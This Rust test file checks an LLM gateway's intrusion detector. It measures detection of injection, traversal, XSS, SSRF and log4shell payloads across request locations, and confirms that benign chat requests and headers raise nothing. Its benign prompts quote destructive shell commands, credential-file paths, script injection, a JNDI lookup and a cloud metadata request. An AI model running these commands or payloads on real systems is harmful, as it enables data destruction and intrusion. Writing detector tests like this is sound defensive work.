//! Detection bars on corpora: every attack family placed in the path, the query, a
//! header (`User-Agent`), a browser request's `Referer` and a non-content JSON field
//! must be detected (≥ 95 %, ≥ 99 % for path
//! traversal), and 2,000 benign chat requests — a third of them with SQL, shell
//! commands, file paths, HTML or code in the message content — must produce no
//! finding at all, and neither must 240 realistic header sets (browsers, SDKs, bots,
//! monitoring, proxies, CDNs). Rates are printed per family and location.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)] // test code

use flm_guard::intrusion::{fields_from_json, inspect, RequestFacts};
use serde_json::json;

const FAMILIES: &[(&str, f64)] = &[
    ("sql_injection", 0.95),
    ("path_traversal", 0.99),
    ("xss", 0.95),
    ("command_injection", 0.95),
    ("ssrf", 0.95),
    ("log4shell", 0.95),
];

/// Measured gaps, kept visible instead of hidden: `(family, location)` pairs below
/// the bar. Closing a gap makes its entry fail (so this list cannot go stale). Empty
/// since header values get the strict families (traversal, SSRF, command injection)
/// and percent-decoding, and schemes match after a path's slash runs are collapsed.
const KNOWN_GAPS: &[(&str, &str)] = &[];

fn payloads(family: &str) -> Vec<String> {
    let path = format!(
        "{}/tests/corpora/attacks/{family}.txt",
        env!("CARGO_MANIFEST_DIR")
    );
    std::fs::read_to_string(&path)
        .unwrap_or_else(|e| panic!("{path}: {e}"))
        .lines()
        .filter(|l| !l.trim().is_empty() && !l.starts_with('#'))
        .map(str::to_owned)
        .collect()
}

/// What an HTTP client does to a string before it goes into a URL.
fn url_escape(s: &str) -> String {
    s.replace('%', "%25")
        .replace(' ', "%20")
        .replace('#', "%23")
        .replace('?', "%3F")
}

fn url_escape_keep_percent(s: &str) -> String {
    // Payloads that are already percent-encoded stay as written.
    if s.contains('%') {
        s.replace(' ', "%20").replace('#', "%23")
    } else {
        url_escape(s)
    }
}

fn detected(facts: &RequestFacts<'_>) -> bool {
    inspect(facts).iter().any(|f| !f.weak)
}

const BROWSER_UA: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36";

const SDK_HEADERS: &[(&str, &[u8])] = &[
    ("content-type", b"application/json"),
    ("accept", b"application/json"),
    ("user-agent", b"OpenAI/Python 1.57.0"),
    ("x-stainless-lang", b"python"),
    (
        "authorization",
        b"Bearer flm_0123456789abcdef_AbCdEfGhIjKlMnOpQrStUvWxYz012345",
    ),
];

#[test]
fn attack_families_are_detected_everywhere() {
    let mut failures = Vec::new();
    for (family, bar) in FAMILIES {
        let list = payloads(family);
        assert!(list.len() >= 4, "{family}: corpus too small");
        let mut by_location = Vec::new();
        for location in ["path", "query", "header", "referer", "field"] {
            let mut hit = 0usize;
            let mut missed = Vec::new();
            for p in &list {
                let escaped = url_escape_keep_percent(p);
                let path = format!("/v1/files/{escaped}");
                let query = format!("q={escaped}");
                let header = [("user-agent", p.as_bytes())];
                // A browser-like request whose Referer carries the payload.
                let referer = [
                    ("user-agent", BROWSER_UA.as_bytes()),
                    ("referer", p.as_bytes()),
                ];
                let field = [("model", p.as_str())];
                let facts = match location {
                    "path" => RequestFacts {
                        method: "GET",
                        path: &path,
                        query: None,
                        headers: &[],
                        fields: &[],
                    },
                    "query" => RequestFacts {
                        method: "GET",
                        path: "/v1/models",
                        query: Some(&query),
                        headers: &[],
                        fields: &[],
                    },
                    "header" => RequestFacts {
                        method: "GET",
                        path: "/v1/models",
                        query: None,
                        headers: &header,
                        fields: &[],
                    },
                    "referer" => RequestFacts {
                        method: "GET",
                        path: "/v1/models",
                        query: None,
                        headers: &referer,
                        fields: &[],
                    },
                    _ => RequestFacts {
                        method: "POST",
                        path: "/v1/chat/completions",
                        query: None,
                        headers: SDK_HEADERS,
                        fields: &field,
                    },
                };
                if detected(&facts) {
                    hit += 1;
                } else {
                    missed.push(p.clone());
                }
            }
            let rate = hit as f64 / list.len() as f64;
            by_location.push(format!("{location} {:.0}%", rate * 100.0));
            if !missed.is_empty() {
                println!("  {family} missed in {location}: {missed:?}");
            }
            if KNOWN_GAPS.contains(&(*family, location)) {
                if rate >= *bar {
                    failures.push(format!(
                        "{family} in {location} now meets the bar: remove it from KNOWN_GAPS"
                    ));
                }
                continue;
            }
            if rate < *bar {
                failures.push(format!(
                    "{family} in {location}: {:.1}% < {:.0}% (missed: {missed:?})",
                    rate * 100.0,
                    bar * 100.0
                ));
            }
        }
        println!(
            "{family:<18} {} payloads: {}",
            list.len(),
            by_location.join(", ")
        );
    }
    assert!(
        failures.is_empty(),
        "detection below the bar:\n{}",
        failures.join("\n")
    );
}

/// Message contents a real user sends: a third of them look like attacks but are not
/// requests to FLM — they are the prompt.
const CONTENTS: &[&str] = &[
    "Explain this query: SELECT * FROM users WHERE name = 'x' OR 1=1; -- why is it dangerous?",
    "Why does `rm -rf / --no-preserve-root` need sudo? Also what does $(whoami) print?",
    "Read ../../etc/passwd and /etc/shadow: what is the difference between them?",
    "Fix my HTML: <script>alert('hi')</script><img src=x onerror=alert(1)>",
    "Is ${jndi:ldap://example.com/a} still exploitable with log4j 2.17?",
    "Convert to Rust:\n```python\nimport os\nos.system('cat /etc/hosts | grep local')\n```",
    "What does `curl http://169.254.169.254/latest/meta-data/` return on EC2?",
    "My C:\\Users\\me\\..\\Desktop path breaks on Windows; why?",
    "Write a bash one-liner: find . -name '*.log' -exec rm {} \\;",
    "'; DROP TABLE students;-- is from an XKCD comic, right?",
];

const PLAIN: &[&str] = &[
    "Hello! How are you today?",
    "Summarise the causes of the French Revolution in three bullet points.",
    "Translate 'good morning' into Japanese.",
    "What's a good name for a grey cat?",
    "Give me a recipe for miso soup.",
    "How many planets are in the solar system?",
    "Write a haiku about autumn rain.",
];

const MODELS: &[&str] = &[
    "flm://ollama-default/llama3.2:latest",
    "flm://llamacpp-default/tiny-llama",
    "flm://vllm-1/meta-llama/Llama-3.1-8B-Instruct",
    "flm://lmstudio-default/qwen2.5-7b-instruct",
    "qwen2.5-coder:7b",
    "text-embedding-nomic-embed-text-v1.5@q4_k_m",
    "mistral:7b-instruct-v0.3-q4_K_M",
];

#[test]
fn two_thousand_benign_chat_requests_raise_nothing() {
    let mut flagged = Vec::new();
    for i in 0..2000usize {
        let content = if i % 3 == 0 {
            CONTENTS[i % CONTENTS.len()]
        } else {
            PLAIN[i % PLAIN.len()]
        };
        let model = MODELS[i % MODELS.len()];
        let mut body = json!({
            "model": model,
            "messages": [
                {"role": "system", "content": "You are a helpful assistant."},
                {"role": "user", "content": content},
            ],
            "temperature": (i % 20) as f64 / 10.0,
            "max_tokens": 64 + i % 512,
            "stream": i % 2 == 0,
        });
        if i % 7 == 0 {
            body["tools"] = json!([{"type": "function", "function": {"name": "get_weather", "parameters": {"type": "object"}}}]);
        }
        if i % 11 == 0 {
            body["stop"] = json!(["\n\n", "User:"]);
            body["user"] = json!("user-123@example.com");
        }
        let fields = fields_from_json(&body);
        let fields: Vec<(&str, &str)> = fields
            .iter()
            .map(|(k, v)| (k.as_str(), v.as_str()))
            .collect();
        let (method, path) = if i % 10 == 0 {
            ("GET", "/v1/models")
        } else {
            ("POST", "/v1/chat/completions")
        };
        let facts = RequestFacts {
            method,
            path,
            query: None,
            headers: SDK_HEADERS,
            fields: &fields,
        };
        let findings = inspect(&facts);
        if !findings.is_empty() {
            flagged.push(format!("#{i}: {findings:?}"));
        }
    }
    println!("benign requests: 2000, flagged: {}", flagged.len());
    assert!(
        flagged.is_empty(),
        "benign requests flagged:\n{}",
        flagged.join("\n")
    );
}

// === benign headers ===

/// Real-world User-Agents: browsers (desktop, mobile, old, TV, console), HTTP libraries
/// and LLM SDKs, bots, monitoring, desktop apps. Includes the ones that once tripped
/// naive rules: `; id;` (Indonesian locale), `; CAT S61` and `SH-M24` (phone models),
/// `dart:io`, `+http://` bot links, `(compatible; …)`.
const USER_AGENTS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.80",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 OPR/110.0.0.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (iPad; CPU OS 16_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/124.0.6367.111 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8 Pro) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.113 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; U; Android 4.0.3; id; GT-I9100 Build/IML74K) AppleWebKit/534.30 (KHTML, like Gecko) Version/4.0 Mobile Safari/534.30",
    "Mozilla/5.0 (Linux; Android 9; CAT S61) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36",
    "Dalvik/2.1.0 (Linux; U; Android 13; SH-M24 Build/S8230)",
    "Dalvik/2.1.0 (Linux; U; Android 11; SM-G991B Build/RP1A.200720.012)",
    "Mozilla/5.0 (Linux; Android 12; SAMSUNG SM-S908B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/25.0 Chrome/121.0.0.0 Mobile Safari/537.36",
    "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0; .NET CLR 2.0.50727; .NET CLR 3.5.30729)",
    "Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko",
    "Mozilla/5.0 (SMART-TV; Linux; Tizen 6.0) AppleWebKit/537.36 (KHTML, like Gecko) 76.0.3809.146/6.0 TV Safari/537.36",
    "Mozilla/5.0 (PlayStation; PlayStation 5/2.26) AppleWebKit/605.1.15 (KHTML, like Gecko)",
    "Roku/DVP-9.10 (519.10E04111A)",
    "curl/8.5.0",
    "curl/7.81.0",
    "Wget/1.21.4",
    "python-requests/2.31.0",
    "python-httpx/0.27.0",
    "Python/3.12 aiohttp/3.9.5",
    "OpenAI/Python 1.57.0",
    "AsyncOpenAI/Python 1.35.3",
    "langchain-openai/0.1.8 OpenAI/Python 1.35.3",
    "OpenAI/JS 4.52.0",
    "Anthropic/Python 0.28.0",
    "litellm/1.40.0",
    "ollama-python/0.2.1 (x86_64 linux) Python/3.11.4",
    "Go-http-client/1.1",
    "Go-http-client/2.0",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "node",
    "undici",
    "axios/1.6.8",
    "Bun/1.1.8",
    "Deno/1.43.1",
    "okhttp/4.12.0",
    "Java-http-client/17.0.10",
    "Apache-HttpClient/4.5.14 (Java/17.0.9)",
    "Dart/3.3 (dart:io)",
    "Faraday v2.9.0",
    "RestSharp/110.2.0.0",
    "libcurl/8.4.0 r-curl/5.2.1 httr/1.4.7",
    "PostmanRuntime/7.37.3",
    "insomnia/8.6.1",
    "HTTPie/3.2.2",
    "Expo/2.31.0 CFNetwork/1494.0.7 Darwin/23.4.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) ChatBox/1.3.10 Chrome/120.0.6099.291 Electron/28.3.3 Safari/537.36",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17531; Pro)",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
    "Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)",
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ChatGPT-User/1.0; +https://openai.com/bot)",
    "Mozilla/5.0 (compatible; Let's Encrypt validation server; +https://www.letsencrypt.org)",
    "Prometheus/2.51.0",
    "kube-probe/1.29",
    "ELB-HealthChecker/2.0",
    "GoogleHC/1.0",
    "Uptime-Kuma/1.23.11",
    "Blackbox Exporter/0.25.0",
    "Grafana/10.4.2",
    "HomeAssistant/2024.5.1 aiohttp/3.9.5 Python/3.12",
];

/// Referers: chat UIs, search engines, social links, local dev servers, encoded query
/// strings, fragments, redirect parameters carrying URLs.
const REFERERS: &[&str] = &[
    "https://chat.example.com/c/8f0e3c1a-2b4d-4e0f-9a51-7d2a1c3b4e5f?model=llama3&temperature=0.7",
    "https://www.google.com/search?q=flm+llm+gateway&oq=flm&sourceid=chrome&ie=UTF-8",
    "https://github.com/org/repo/issues?q=is%3Aissue+is%3Aopen+label%3Abug",
    "https://docs.example.com/guides/api.html#authentication",
    "http://localhost:3000/",
    "http://127.0.0.1:8080/chat?session=abc&debug=1",
    "http://192.168.1.20:8780/ui/settings",
    "http://[::1]:5173/",
    "https://example.com/page?x=1",
    "https://news.ycombinator.com/item?id=40000000",
    "https://t.co/AbCdEf123",
    "https://www.reddit.com/r/LocalLLaMA/comments/1abc2de/flm_released/?utm_source=share&utm_medium=web3x&utm_name=web3xcss",
    "https://mail.google.com/mail/u/0/#inbox/FMfcgzGxSbbbQWERTY",
    "https://app.slack.com/client/T0123ABCD/C0456EFGH",
    "https://example.com/a%20b/c%2Fd?e=%E6%97%A5%E6%9C%AC%E8%AA%9E&f=50%25",
    "https://stackoverflow.com/questions/123456/how-to-call-an-openai-compatible-api?noredirect=1&lq=1",
    "https://login.example.com/authorize?redirect_uri=https%3A%2F%2Fapp.example.com%2Fcallback%3Fstate%3Dxyz&response_type=code",
    "https://www.bing.com/search?q=select+a+local+model&form=QBLH",
    "https://duckduckgo.com/?q=ollama+vs+vllm&t=h_&ia=web",
    "https://open-webui.lan/c/0d1e2f3a?tab=settings;view=compact",
    "https://huggingface.co/bartowski/Llama-3.2-1B-Instruct-GGUF/tree/main?show_file_info=Llama-3.2-1B-Instruct-Q4_K_M.gguf",
    "https://example.org/docs/v1.2.3/index.html?lang=en-US#section-4.1",
    "android-app://com.google.android.gm/",
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ&list=PL123&index=2",
];

const ACCEPTS: &[&str] = &[
    "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
    "application/json",
    "*/*",
    "text/event-stream",
    "application/json, text/plain, */*",
];

const LANGUAGES: &[&str] = &[
    "en-US,en;q=0.9",
    "ja,en-US;q=0.9,en;q=0.8",
    "de-DE,de;q=0.9,en-US;q=0.8,en;q=0.7",
    "zh-CN,zh;q=0.9",
    "fr-CH, fr;q=0.9, en;q=0.8, de;q=0.7, *;q=0.5",
];

const COOKIES: &[&str] = &[
    "session=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c; theme=dark",
    "_ga=GA1.1.123456789.1700000000; _gid=GA1.1.987654321.1700000000; cf_clearance=abc.def-123",
    "token=dGhpcyBpcyBub3QgYSByZWFsIHRva2VuIQ==; lang=en",
    "sid=s%3AabCDef123.XyZ%2F%2Bq; Path=/",
];

const FORWARDED_FOR: &[&str] = &[
    "203.0.113.7",
    "198.51.100.23, 10.0.0.2",
    "2001:db8::1, 10.0.0.1",
    "100.64.12.7, 172.16.0.5",
    "192.0.2.60, 198.51.100.17, 10.1.2.3",
];

const ETAGS: &[&str] = &[
    "\"33a64df551425fcc55e4d42a148795d9f25f89d4\"",
    "W/\"5e-abc--gzip\"",
    "W/\"0815\", \"xyzzy\"",
];

/// Other headers seen from SDKs, proxies, CDNs and tracing: `(name, value)`.
const EXTRA: &[(&str, &str)] = &[
    (
        "content-type",
        "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW",
    ),
    ("content-type", "application/json; charset=utf-8"),
    ("x-request-id", "7f1c2b9e-4d3a-4b8e-9f10-2a3b4c5d6e7f"),
    (
        "traceparent",
        "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01",
    ),
    (
        "baggage",
        "userId=alice,serverNode=DF%2028,isProduction=false",
    ),
    (
        "x-amzn-trace-id",
        "Root=1-5759e988-bd862e3fe1be46a994272793;Parent=53995c3f42cd8ad8;Sampled=1",
    ),
    ("cf-ray", "8842d4f1fa2b2c3e-FRA"),
    ("cf-connecting-ip", "2001:db8:85a3::8a2e:370:7334"),
    ("cdn-loop", "cloudflare; loops=1"),
    ("via", "1.1 vegur, 1.1 google"),
    (
        "x-cloud-trace-context",
        "105445aa7843bc8bf206b12000100000/1;o=1",
    ),
    ("forwarded", "for=192.0.2.60;proto=https;by=203.0.113.43"),
    (
        "forwarded",
        "for=\"[2001:db8:cafe::17]:4711\";host=api.example.com",
    ),
    ("x-forwarded-proto", "https"),
    ("x-forwarded-host", "gpu-box.lan:8780"),
    ("x-forwarded-prefix", "/flm"),
    ("x-original-uri", "/v1/chat/completions?stream=true"),
    ("x-real-ip", "198.51.100.7"),
    ("openai-beta", "assistants=v2"),
    ("openai-organization", "org-AbCdEf0123456789"),
    ("anthropic-version", "2023-06-01"),
    ("x-api-key", "sk-proj-AbCdEfGhIjKlMnOpQrStUvWxYz0123456789"),
    ("api-key", "0123456789abcdef0123456789abcdef"),
    ("x-title", "My Chat App: Loading..."),
    ("http-referer", "https://myapp.example.com/"),
    ("x-client-version", "1.2.3 (build 45; commit abc123f)"),
    ("x-device", "iPhone14,2; iOS 17.4"),
    ("range", "bytes=0-1023"),
    ("if-modified-since", "Wed, 21 Oct 2015 07:28:00 GMT"),
    ("prefer", "wait=5, handling=lenient"),
    (
        "link",
        "<https://example.com/style.css>; rel=preload; as=style",
    ),
    ("warning", "199 - \"Miscellaneous warning\""),
    ("upgrade", "websocket"),
    ("sec-websocket-key", "dGhlIHNhbXBsZSBub25jZQ=="),
    ("x-stainless-os", "MacOS"),
    ("x-stainless-runtime", "CPython"),
    ("x-stainless-package-version", "1.57.0"),
    ("x-stainless-async", "async:asyncio"),
    ("priority", "u=1, i"),
    ("dnt", "1"),
    ("x-requested-with", "XMLHttpRequest"),
    ("x-csrf-token", "Zm9vYmFyLWNzcmYtdG9rZW4tMTIzNDU2"),
    ("x-timezone", "Europe/Berlin"),
    ("x-locale", "pt-BR"),
];

/// 240 header sets: each User-Agent with rotating Accept, Accept-Language, Cookie,
/// Referer, Origin, Authorization, X-Forwarded-For, sec-ch-ua, ETag and extras.
fn benign_header_sets() -> Vec<Vec<(String, Vec<u8>)>> {
    let mut sets = Vec::new();
    for i in 0..240usize {
        let ua = USER_AGENTS[i % USER_AGENTS.len()];
        let referer = REFERERS[(i * 7) % REFERERS.len()];
        let origin = referer.split('/').take(3).collect::<Vec<_>>().join("/");
        // Mixed-case names, as some clients send them.
        let ua_name = if i % 2 == 0 {
            "User-Agent"
        } else {
            "user-agent"
        };
        let mut h: Vec<(String, String)> = vec![(ua_name.into(), ua.into())];
        h.push(("Accept".into(), ACCEPTS[i % ACCEPTS.len()].into()));
        h.push((
            "Accept-Language".into(),
            LANGUAGES[(i / 3) % LANGUAGES.len()].into(),
        ));
        h.push(("Accept-Encoding".into(), "gzip, deflate, br, zstd".into()));
        h.push(("Cookie".into(), COOKIES[i % COOKIES.len()].into()));
        h.push(("Referer".into(), referer.into()));
        h.push(("Origin".into(), origin));
        h.push((
            "Authorization".into(),
            format!("Bearer flm_0123456789abcdef_{:032}", i),
        ));
        h.push((
            "X-Forwarded-For".into(),
            FORWARDED_FOR[i % FORWARDED_FOR.len()].into(),
        ));
        h.push((
            "sec-ch-ua".into(),
            format!(
                "\"Chromium\";v=\"{v}\", \"Google Chrome\";v=\"{v}\", \"Not-A.Brand\";v=\"99\"",
                v = 100 + i % 25
            ),
        ));
        h.push(("sec-ch-ua-platform".into(), "\"Windows\"".into()));
        h.push(("sec-ch-ua-mobile".into(), "?0".into()));
        h.push(("Sec-Fetch-Site".into(), "same-origin".into()));
        h.push(("If-None-Match".into(), ETAGS[i % ETAGS.len()].into()));
        for k in 0..4 {
            let (n, v) = EXTRA[(i * 5 + k * 11) % EXTRA.len()];
            h.push((n.into(), v.into()));
        }
        sets.push(h.into_iter().map(|(n, v)| (n, v.into_bytes())).collect());
    }
    sets
}

#[test]
fn realistic_benign_headers_raise_nothing() {
    let sets = benign_header_sets();
    assert!(sets.len() >= 200);
    let mut flagged = Vec::new();
    let mut values = 0usize;
    for (i, set) in sets.iter().enumerate() {
        let headers: Vec<(&str, &[u8])> = set
            .iter()
            .map(|(n, v)| (n.as_str(), v.as_slice()))
            .collect();
        values += headers.len();
        for (method, path) in [("GET", "/v1/models"), ("POST", "/v1/chat/completions")] {
            let findings = inspect(&RequestFacts {
                method,
                path,
                query: None,
                headers: &headers,
                fields: &[],
            });
            if !findings.is_empty() {
                flagged.push(format!("set #{i}: {findings:?}"));
            }
        }
    }
    // Every listed value on its own, under a scanned (non-structured) header name, so
    // a value is not spared only because its usual header has a fixed grammar.
    let all_values = USER_AGENTS
        .iter()
        .chain(REFERERS)
        .chain(ACCEPTS)
        .chain(LANGUAGES)
        .chain(FORWARDED_FOR)
        .chain(ETAGS)
        .copied()
        .chain(EXTRA.iter().map(|(_, v)| *v));
    for v in all_values {
        let headers: [(&str, &[u8]); 2] =
            [("user-agent", b"curl/8.5.0"), ("x-custom", v.as_bytes())];
        let findings = inspect(&RequestFacts {
            method: "GET",
            path: "/v1/models",
            query: None,
            headers: &headers,
            fields: &[],
        });
        if !findings.is_empty() {
            flagged.push(format!("x-custom {v:?}: {findings:?}"));
        }
    }
    println!(
        "benign header sets: {}, header values: {values}, flagged: {}",
        sets.len(),
        flagged.len()
    );
    assert!(
        flagged.is_empty(),
        "benign headers flagged:\n{}",
        flagged.join("\n")
    );
}
